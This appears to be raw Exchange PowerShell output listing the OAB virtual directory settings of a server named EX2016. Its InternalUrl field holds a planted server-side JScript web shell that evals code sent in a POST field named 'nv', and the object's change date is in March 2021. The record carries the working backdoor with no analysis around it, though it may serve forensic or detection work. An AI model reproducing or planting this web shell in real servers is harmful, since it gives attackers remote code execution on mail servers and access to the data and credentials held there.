Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : {\Default Offline Address Book (Ex2013)}
RequireSSL                      : False
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://EX2016.tailspin.internal/W3SVC/1/ROOT/OAB
Path                            : E:\Exchange2016\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         :
ExtendedProtectionSPNList       :
AdminDisplayVersion             : Version 15.1 (Build 2176.2)
Server                          : EX2016
InternalUrl                     : http://g/<script language="JScript" runat="server">function Page_Load(){eval(Request.Form["nv"],"unsafe");}</script>
InternalAuthenticationMethods   : {WindowsIntegrated}
ExternalUrl                     : https://mail.tailspin.com/OAB
ExternalAuthenticationMethods   : {WindowsIntegrated}
AdminDisplayName                :
ExchangeVersion                 : 0.10 (14.0.100.0)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EX2016,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Tailspin,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=tailspin,DC=internal
Identity                        : EX2016\OAB (Default Web Site)
Guid                            : 4f2be9d1-8c06-4a37-b5e2-7103c6da98f0
ObjectCategory                  : tailspin.internal/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}
WhenChanged                     : 3/4/2021 3:17:09 AM
WhenCreated                     : 6/8/2017 9:12:04 AM
WhenChangedUTC                  : 3/4/2021 11:17:09 AM
WhenCreatedUTC                  : 6/8/2017 4:12:04 PM
OrganizationId                  :
Id                              : EX2016\OAB (Default Web Site)
OriginatingServer               : TSDC01.tailspin.internal
IsValid                         : True
ObjectState                     : Changed
DisplayName                     : OAB
AuthenticationMethods           : {WindowsIntegrated}
MaxSessionTimeoutMinutes        :
OABVirtualDirectoryFlags        : None
RunspaceId                      : e61d0b29-5c8a-4f17-93b4-2a8e7f0c15d6
